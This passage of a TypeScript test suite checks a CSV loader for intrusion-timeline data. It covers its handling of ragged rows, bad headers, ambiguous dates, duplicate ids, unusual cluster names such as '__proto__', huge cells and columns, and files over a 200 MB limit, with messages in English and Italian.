    expect(dataset.events.map((e) => e.id)).toEqual(['c']);
  });

  it('keeps a short row with a warning, skips a long one, and ignores empty trailing cells', () => {
    const dataset = loadDataset({ events: corpus('ragged-rows.csv') });
    expect(dataset.problems.find((p) => p.code === 'rowTooShort')!.params).toEqual({ cells: 6, width: 7 });
    expect(dataset.problems.find((p) => p.code === 'rowTooLong')!.params).toEqual({ cells: 9, width: 7 });
    expect(byId(dataset).get('r-short')!.confidence).toBeNull();
  });

  it('reads header names whatever their case, spaces or quotes, and names a duplicate, the unknown ones and the unnamed one with a value', () => {
    const dataset = loadDataset({ events: corpus('header-problems.csv') });
    expect(dataset.events.map((e) => [e.id, e.cluster, e.kind, e.title])).toEqual([
      ['h-1', 'X', 'intrusion', 'First title'],
      ['h-2', 'X', 'tooling', 'Another'],
    ]);
    expect(dataset.problems.map((p) => p.params)).toEqual([
      { column: 'title' },
      { columns: ['colour', 'x-extra'], more: 0 },
      // Column 3 has no name and no value; column 9 has none and "lost" on row 2.
      { columns: [9], more: 0, rows: 1, firstRow: 2 },
    ]);
  });
});

describe('dates', () => {
  const dataset = loadDataset({ events: corpus('malformed-dates.csv') });
  const at = (row: number) => dataset.problems.find((p) => p.row === row)!;

  it('says an ambiguous day/month date is ambiguous, with both readings, and skips the row rather than guess', () => {
    for (const [row, text, dayFirst, monthFirst] of [
      [8, '03/04/2020', '2020-04-03', '2020-03-04'],
      [29, '02.03.2021', '2021-03-02', '2021-02-03'],
      [33, '03/04/2021', '2021-04-03', '2021-03-04'],
    ] as const) {
      const problem = at(row);
      expect(problem.code).toBe('dateAmbiguous');
      expect(problem.params).toMatchObject({ text, dayFirst, monthFirst });
      expect(problem.message).toMatch(/ambiguous/);
      expect(formatProblem(problem, 'it')).toMatch(/ambiguo/);
    }
    expect(dataset.events.some((e) => /ambiguous/.test(e.id))).toBe(false);
  });

  it('suggests the one reading of a day-first date only when it is a real day', () => {
    expect(at(7).params).toMatchObject({ suggestion: '2020-12-31' });
    expect(at(18).params).toEqual({ field: 'start', text: '13/13/2020' });
    expect(at(19).params).toEqual({ field: 'start', text: '31/02/2020' });
  });

  it('names each reason', () => {
    expect(at(5).params).toMatchObject({ suggestion: '2020-Q4' });
    expect(at(13).message).toMatch(/^start "~" is not a date/);
    expect(at(14).message).toMatch(/^start "\.\." is not a date/);
    expect(at(15).message).toMatch(/times are not supported/);
    expect(at(20).message).toMatch(/times are not supported/);
    expect(at(31).params).toEqual({ field: 'end', text: 'open' });
  });
});

describe('ids', () => {
  it('skips a repeated id, even with spaces around it, naming the row that used it first; another case is another id', () => {
    const dataset = loadDataset({ events: corpus('duplicate-ids.csv') });
    expect(dataset.problems.filter((p) => p.code === 'duplicateEventId').map((p) => [p.row, p.params])).toEqual([
      [3, { id: 'dup', firstRow: 2 }],
      [4, { id: 'dup', firstRow: 2 }],
      [8, { id: 'dup', firstRow: 2 }],
    ]);
  });

  it('warns once per unknown cluster, at its first row, and matches a known cluster in another case', () => {
    const dataset = loadDataset({ events: corpus('unknown-clusters-events.csv'), clusters: corpus('unknown-clusters-clusters.csv') });
    expect(dataset.events.map((e) => e.cluster)).toEqual(['A', 'A', 'Z', 'Z', 'context', 'A']);
    expect(dataset.clusters.map((c) => [c.id, c.derived])).toEqual([
      ['A', false],
      ['B', false],
      ['Z', true],
    ]);
    expect(dataset.problems[0]!.params).toEqual({ cluster: 'Z', clustersFile: 'unknown-clusters-clusters.csv' });
  });

  it('keeps cluster ids that are URL parameter names or hold URL syntax, each in its own lane, exactly as written', () => {
    const dataset = loadDataset({ events: corpus('keyword-clusters-events.csv'), clusters: corpus('keyword-clusters-clusters.csv') });
    for (const event of dataset.events.filter((e) => e.id.startsWith('k-'))) expect(event.cluster).toBe(event.id.slice(2));
    expect(dataset.clusters.map((c) => c.id)).toContain('__proto__');
    expect(dataset.clusters.every((c) => !c.derived)).toBe(true);
    // "A" and "a" are two clusters: each event stays in the one it names.
    expect(byId(dataset).get('k-A')!.cluster).toBe('A');
    expect(byId(dataset).get('k-a')!.cluster).toBe('a');
  });
});

/** One MB of text with no delimiter, quote or line break in it. */
const MEGABYTE_TEXT = 'x'.repeat(1024 * 1024);

describe('a 1 MB cell', () => {
  const header = ['id', 'cluster', 'kind', 'start', 'end', 'title', 'summary', 'summary_it', 'confidence', 'contested', 'targets', 'tools', 'techniques', 'cves', 'source_title', 'source_url'];
  const good = (id: string) => [id, 'X', 'intrusion', '2020', '', 'Good', '', '', '', '', '', '', '', '', '', 'https://example.org/'];

  it.each(header)('in %s: never throws, keeps the good rows around it, and every reason stays short', (column) => {
    const big = good('big');
    big[header.indexOf(column)] = column === 'source_url' ? `https://example.org/${MEGABYTE_TEXT}` : MEGABYTE_TEXT;
    const text = [header, good('before'), big, good('after')].map((row) => row.join(',')).join('\n');
    const input = { events: { name: 'big-cell.csv', text }, clusters: { name: 'clusters.csv', text: 'id,label\nX,Cluster X\n' } };
    const dataset = loadDataset(input);
    const ids = dataset.events.map((e) => e.id);
    expect(ids.slice(0, 1)).toEqual(['before']);
    expect(ids.at(-1)).toBe('after');
    checkDataset(dataset, input);
    // The big row is kept (free text, lists, links) or reported (a date, a required value shaped wrong).
    const bigRow = 3;
    const kept = dataset.events.some((e) => e.row === bigRow);
    const reported = dataset.problems.some((p) => p.row === bigRow && p.severity === 'error');
    expect(kept !== reported).toBe(true);
  });

  it('keeps a 1 MB quoted cell with quotes, commas and line breaks verbatim', () => {
    const cell = `He said "${'a, b\n'.repeat(200_000)}"`;
    const text = `id,cluster,kind,start,title,summary\nbig,X,intrusion,2020,T,"${cell.replace(/"/g, '""')}"\nafter,X,intrusion,2021,T,\n`;
    const dataset = loadDataset({ events: { name: 'big.csv', text } });
    expect(dataset.problems).toEqual([]);
    expect(dataset.events.map((e) => [e.id, e.row])).toEqual([
      ['big', 2],
      ['after', 3],
    ]);
    expect(dataset.events[0]!.summary).toBe(cell.trim());
  });
});

describe('very many columns', () => {
  const width = 5000;
  const extra = Array.from({ length: width - 5 }, (_, i) => `extra_${i}`);

  it('reads 5,000 columns: the schema columns are found, the others are named ten at a time', () => {
    const rows = Array.from({ length: 20 }, (_, r) => [`w-${r}`, 'X', 'intrusion', '2020', `Row ${r}`, ...extra.map((_, i) => `${r}.${i}`)].join(','));
    const text = [['id', 'cluster', 'kind', 'start', 'title', ...extra].join(','), ...rows].join('\n');
    const input = { events: { name: 'wide.csv', text } };
    const dataset = loadDataset(input);
    expect(dataset.events.map((e) => e.id)).toEqual(Array.from({ length: 20 }, (_, r) => `w-${r}`));
    expect(dataset.problems.map((p) => [p.row, p.code, p.params])).toEqual([
      [1, 'unknownColumns', { columns: extra.slice(0, 10), more: width - 15 }],
    ]);
    checkDataset(dataset, input);
  });

  it('skips a row of 5,000 cells under a narrow header, saying how many cells it has', () => {
    const text = `id,cluster,kind,start,title\nok,X,intrusion,2020,T\nwide,X,intrusion,2020,T,${extra.join(',')}\n`;
    const dataset = loadDataset({ events: { name: 'wide-row.csv', text } });
    expect(dataset.events.map((e) => e.id)).toEqual(['ok']);
    expect(dataset.problems.map((p) => [p.row, p.code, p.params])).toEqual([[3, 'rowTooLong', { cells: width, width: 5 }]]);
  });

  it('names the missing column of a 5,000-column header, listing ten of the columns found', () => {
    const text = `id,cluster,kind,title,${extra.join(',')}\nx,X,intrusion,T\n`;
    const dataset = loadDataset({ events: { name: 'wide-missing.csv', text } });
    expect(dataset.events).toEqual([]);
    const missing = dataset.problems.find((p) => p.code === 'missingColumn')!;
    expect(missing).toMatchObject({ row: 1, column: 'start', severity: 'error' });
    expect(missing.message).toMatch(/^the required column "start" is missing/);
    expect(missing.params).toEqual({ column: 'start', found: ['id', 'cluster', 'kind', 'title', ...extra.slice(0, 6)], more: extra.length - 6 });
  });
});

describe('a file over the size limit', () => {
  const MB = 1024 * 1024;
  /** A chosen file that says it is 250 MB and fails the test if anything tries to read it. */
  function hugeFile(name = 'huge-events.csv') {
    const reads: string[] = [];
    const refuse = (what: string) => () => {
      reads.push(what);
      throw new Error(`${what} must not be called on a file over the limit`);
    };
    const file = { name, size: 250 * MB, type: 'text/csv', slice: refuse('slice'), text: refuse('text'), arrayBuffer: refuse('arrayBuffer'), stream: refuse('stream') };
    return { file: file as unknown as File, reads };
  }

  it('is over the stated limit of 200 MB', () => {
    expect(MAX_FILE_BYTES).toBe(200 * MB);
    expect(fileSizeFailure({ name: 'edge.csv', size: MAX_FILE_BYTES })).toBeNull();
    expect(fileSizeFailure({ name: 'edge.csv', size: MAX_FILE_BYTES + 1 })).toMatchObject({ code: 'fileTooLarge' });
  });

  it('is refused by checkFileSize, in English and Italian', () => {
    const { file, reads } = hugeFile();
    expect(checkFileSize(file)).toBe(
      '"huge-events.csv" is 250.0 MB; files over 200 MB cannot be loaded. Split it, or remove the rows and columns you do not need.',
    );
    expect(formatLoadFailure(fileSizeFailure(file)!, 'it')).toBe(
      '"huge-events.csv" pesa 250.0 MB; non si possono caricare file di oltre 200 MB. Dividilo in più file, oppure togli le righe e le colonne che non ti servono.',
    );
    expect(reads).toEqual([]);
  });

  it('is refused by loadUserFiles before any of the chosen files is read, even with a small events file beside it', async () => {
    const { file, reads } = hugeFile('huge-clusters.csv');
    const small = { name: 'events.csv', size: 10, slice: () => ({ text: async () => 'id,cluster,kind,start,title\n' }) } as unknown as File;
    const error = await loadUserFiles([small, file], () => undefined, new AbortController().signal).then(
      () => null,
      (e: unknown) => e,
    );
    expect(error).toBeInstanceOf(LoadRefused);
    expect((error as LoadRefused).failure).toEqual({ code: 'fileTooLarge', params: { file: 'huge-clusters.csv', size: '250.0 MB', limit: '200 MB' } });
    expect(formatLoadError(error, 'en')).toMatch(/^"huge-clusters.csv" is 250.0 MB; files over 200 MB cannot be loaded/);
    expect(formatLoadError(error, 'it')).toMatch(/^"huge-clusters.csv" pesa 250.0 MB; non si possono caricare file di oltre 200 MB/);
    expect(reads).toEqual([]);
  });
});
